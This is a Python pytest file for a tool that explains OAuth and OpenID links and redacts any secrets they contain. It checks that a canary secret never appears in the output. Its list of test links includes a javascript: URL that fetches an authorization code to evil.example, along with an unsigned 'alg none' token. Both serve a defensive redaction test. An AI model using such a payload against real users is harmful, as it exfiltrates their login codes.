"""Links explained: what each parameter is for, who made it, and never what a secret is."""

from __future__ import annotations

import json
from urllib.parse import quote

import pytest
from hostile_samples import PROPERTY, TEXTS
from hypothesis import given
from hypothesis import strategies as st
from link_samples import CANARY, ID_TOKEN, NOW, REQUEST, broken, jwt, link, request, response, verdicts

from loopback_auth.errors import ConfigError
from loopback_auth.explain.links.link_story_words import NOTES
from loopback_auth.explain.links.link_values import OF_TICKETS
from loopback_auth.explain.links.link_words import LINK_PARAMETERS, MAKERS, SHOWN, VENDOR_PARAMETERS
from loopback_auth.explain.narration import Story
from loopback_auth.explain.parameter_words import PARAMETERS
from loopback_auth.explain.story import ExplainedValue
from loopback_auth.explain.story_text import members, text
from loopback_auth.trace.secret_names import SECRET_PARAMETERS

TICKETS = {
    "Netlify": f"https://app.netlify.com/authorize?response_type=ticket&ticket={CANARY}",
    "npm registry": f"https://www.npmjs.com/login?next=/login/cli/{CANARY}",
    "Heroku": f"https://cli-auth.heroku.com/auth/cli/browser/{CANARY}?requestor={CANARY}",
    "Stripe": f"https://dashboard.stripe.com/stripecli/confirm_auth?t={CANARY}",
    "Doppler": "https://dashboard.doppler.com/workplace/auth/cli",
}


def values(story: Story) -> dict[str, ExplainedValue]:
    """Return the parameters of the link by name."""
    return {value.name: value for value in story.scenes[0].sent}


def everything(story: Story) -> str:
    """Return all that is shown of a story, in every form."""
    return text(story, width=100) + text(story, width=40) + json.dumps(members(story)) + repr(story)


def test_each_parameter_of_a_request_is_explained() -> None:
    """With what it is for, who made it, and the clause."""
    shown = values(link(request({"prompt": "none", "response_mode": "form_post"})))

    assert [
        name for name, value in shown.items() if not (value.meaning and value.source and value.maker)
    ] == []
    assert shown["client_id"].value == REQUEST["client_id"]
    assert shown["prompt"].meaning == LINK_PARAMETERS["prompt none"][0]
    assert (shown["state"].value, shown["state"].secret) == ("<state#1>", True)
    assert not shown["scope"].secret


def test_same_secret_has_the_same_label() -> None:
    """So that a reader sees that a value was used twice."""
    shown = values(link(request({"nonce": REQUEST["state"]})))

    assert shown["nonce"].value == shown["state"].value == "<state#1>"


@pytest.mark.parametrize("name", sorted(VENDOR_PARAMETERS.keys() - OF_TICKETS))
def test_parameter_of_a_provider_is_explained_with_its_page(name: str) -> None:
    """What no standard has is in the provider's documentation."""
    value = values(link(request({name: "1"})))[name]

    assert (value.meaning, value.source) == VENDOR_PARAMETERS[name]
    assert value.source.startswith("https://")


def test_unknown_parameter_is_said_to_be_unknown_and_not_shown() -> None:
    """Its value may be a secret."""
    value = values(link(request({"utm_token": "x", "theme": "dark-and-secret"})))["theme"]

    assert "no standard" in value.meaning
    assert "dark" not in value.value


def test_request_at_a_known_provider_names_it() -> None:
    """People look for the provider's own rules then."""
    assert link("https://github.com/login/oauth/authorize?client_id=x").title.endswith("GitHub")
    assert (
        "Microsoft"
        in link("https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=x").title
    )
    assert link(request()).title == "authorization request"


@pytest.mark.parametrize("vendor", TICKETS)
def test_link_to_a_ticket_names_its_vendor(vendor: str) -> None:
    """It is told what happens after the approval, and what to do with a link that somebody sent."""
    story = link(TICKETS[vendor])

    assert (story.flow, vendor in f"{story.title} registry") == ("ticket", True)
    assert CANARY not in everything(story)
    assert len(story.answers) == 2
    assert "{contract}" not in everything(story)


def test_address_to_return_to_is_not_a_ticket() -> None:
    """`next` is npm's ticket at npm; at nearly every other login page it is where the browser goes then."""
    (shown,) = link("https://as.example/login?next=%2Fauthorize").scenes[0].sent

    assert (shown.value, shown.meaning) == ("<next#1>", "")


def test_random_words_of_a_server_are_not_shown() -> None:
    """Servers quote the code that they refuse, with or without its name."""
    described = {"error": "invalid_grant", "error_description": f"The code {CANARY} was used."}
    story = link(response(described, without=["code"]))

    assert CANARY not in everything(story)
    assert "The code (not shown) was used." in [one.answer for one in story.answers]


@pytest.mark.parametrize(
    "text",
    [
        f"http://127.0.0.1/cb;code={CANARY}?error=access_denied",
        f"http://127.0.0.1/cb?error=access_denied;code={CANARY}",
        f"http://127.0.0.1/cb?error=access_denied&amp;code={CANARY}",
        f"http://127.0.0.1/cb?error=access_denied&#38;code={CANARY}",
    ],
)
def test_secret_behind_another_separator_is_not_shown(text: str) -> None:
    """Some programs separate parameters by semicolons, and pages write & in other ways."""
    assert CANARY not in everything(link(text))


def test_link_from_the_source_of_a_page_is_read() -> None:
    """That & is written as &amp; is one finding; nothing is said to be missing for that."""
    copied, clean = verdicts(link(request().replace("&", "&amp;"))), verdicts(link(request()))

    assert copied == clean | {"parameters-encoded": "fail"}


def test_link_with_a_scheme_of_its_own_has_a_beginning() -> None:
    """It has no host, and leads to a program all the same."""
    assert NOTES["no beginning"] not in link("com.example.app:/cb?code=1&state=2").notes


def test_refusal_is_explained_with_its_error() -> None:
    """The response of a login that failed is what people have in hand."""
    story = link(response({"error": "access_denied", "error_description": "No."}, without=["code"]))

    assert "No." in [one.answer for one in story.answers]
    assert any("Deny" in point for one in story.answers for point in one.points)


def test_numbered_error_in_a_description_is_explained() -> None:
    """Microsoft's number says what the code does not."""
    described = {"error": "invalid_client", "error_description": "AADSTS7000218: The request body must ..."}

    assert "public client flows" in repr(link(response(described, without=["code"])).answers)


def test_tokens_in_a_link_are_read_here() -> None:
    """An ID token, a signed response and a signed request say what the link does not."""
    in_fragment = link(response({"id_token": jwt(ID_TOKEN)}, mark="#"))
    signed = link(f"https://as.example/authorize?client_id=my-tool&request={jwt(REQUEST)}")
    answered = link(f"http://127.0.0.1:8400/?response={jwt({**ID_TOKEN, 'code': CANARY})}")

    assert [scene.title for scene in in_fragment.scenes][1:] == [
        "header of the ID token",
        "claims of the ID token",
    ]
    assert "claims-required" in verdicts(in_fragment)
    assert [scene.title for scene in signed.scenes][1:] == [
        "header of the signed request",
        "claims of the signed request",
    ]
    assert CANARY not in everything(in_fragment) + everything(signed) + everything(answered)


def test_secret_that_was_typed_is_a_finding() -> None:
    """The history of the shell and the list of processes have it; a state is useless by then."""
    assert "secret-in-arguments" in broken(link(response(), typed=True))
    assert "secret-in-arguments" not in broken(link(response()))
    assert "secret-in-arguments" not in broken(link(request(), typed=True))


def test_link_that_the_shell_has_cut_is_said_to_be_cut() -> None:
    """Without quotes only the first parameter arrives."""
    assert "quotes" in " ".join(link("https://as.example/authorize?client_id=x").notes)
    assert "quotes" not in " ".join(link(request()).notes)


def test_secrets_are_told_with_who_could_take_them() -> None:
    """As for a flow."""
    fates = {one.label: one for one in link(response({"access_token": CANARY[::-2]}, mark="#")).fates}

    assert set(fates) == {"<code#1>", "<access_token#1>"}
    assert "extensions" in fates["<access_token#1>"].taken_by


def test_words_have_a_source_and_an_end() -> None:
    """Names are known, and no table contradicts another one."""
    assert [name for name, (words, source) in LINK_PARAMETERS.items() if not (words and source)] == []
    assert set(MAKERS) - {*LINK_PARAMETERS, *PARAMETERS, *VENDOR_PARAMETERS, *SECRET_PARAMETERS} == set()
    assert set() == SHOWN & SECRET_PARAMETERS


PLACES = (
    *("?code={}", "#access_token={}", "?state={}&code=1", "#?token={}", "/callback?code=1&x={}", "?error={}"),
    "https://as.example/authorize?client_id=x&state={}",
    "https://as.example/authorize?client_id=x&request={}",
    "https://as.example/authorize?client_id=x&request_uri={}",
    "https://as.example/authorize?client_id=x&id_token_hint={}",
    "https://as.example/authorize?client_id=x&redirect_uri=https%3A%2F%2Fapp.example%2F%3Ftoken%3D{}",
    "https://as.example/authorize?client_id=x&redirect_uri=https%3A%2F%2Fapp.example%2F{}",
    "https://as.example/authorize?client_id=x&redirect_uri=https%3A%2F%2Fme%3A{}%40app.example%2F",
    "https://as.example/authorize?client_id=x&{}=1",
    "https://as.example/authorize?client_id=x&{}",
    "https://as.example/token?grant_type=refresh_token&refresh_token={}",
    "https://as.example/token?code=1&client_secret={}&code_verifier={}",
    "https://me:{}@as.example/authorize?client_id=x",
    "https://as.example/device?user_code={}",
    "https://as.example/{}?code=1",
    "http://127.0.0.1:8400/cb?code={}&code={}",
    "http://127.0.0.1:8400/cb?code=%7A%7A{}",
    "http://127.0.0.1:8400/cb#id_token=eyJhbGciOiJub25lIn0.e30.{}",
    "https://as.example/logout?id_token_hint={}&post_logout_redirect_uri=https://app.example/%3Ft%3D{}",
    "https://api.example/?oauth_token={}&oauth_verifier={}",
    "https://idp.example/?SAMLResponse={}&RelayState={}",
    "https://as.example/authorize?client_id=x&state={}&scope={}",
    "https://as.example/authorize?client_id=x&login_hint=eyJ{}.{}.x",
    "javascript:fetch('//evil.example/?code={}')",
)


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("escape", [str, quote, lambda one: quote(quote(one))])
def test_secret_in_a_link_is_never_shown(place: str, escape: object) -> None:
    """In no output, wherever in the link it stands."""
    assert callable(escape)
    story = link(place.replace("{}", str(escape(CANARY))))

    assert CANARY not in everything(story)


@PROPERTY
@given(TEXTS, TEXTS, st.sampled_from(["?", "#", "/", "https://as.example/authorize?client_id=x&"]))
def test_strange_links_are_explained_or_refused(name: str, value: str, begin: str) -> None:
    """Nothing else comes out, and no control character goes to the terminal."""
    try:
        story = link(f"{begin}{name}={value}&code=1&state={value}", typed=True)
    except ConfigError:
        return

    shown = text(story, width=60)
    assert all(character.isprintable() or character == "\n" for character in shown)
    assert max(map(len, shown.splitlines())) <= 60
    assert json.loads(json.dumps(members(story)))


def test_link_with_a_thousand_parameters_is_short_enough_to_be_read() -> None:
    """What is left out is counted."""
    story = link("https://as.example/authorize?client_id=x&" + "&".join(f"p{n}={n}" for n in range(1000)))

    assert len(story.scenes[0].sent) < 100
    assert "more" in story.scenes[0].sent[-1].name


def test_explanation_is_the_same_each_time() -> None:
    """So that it can be quoted."""
    assert link(request()) == link(request())
    assert NOW == 1_800_000_000
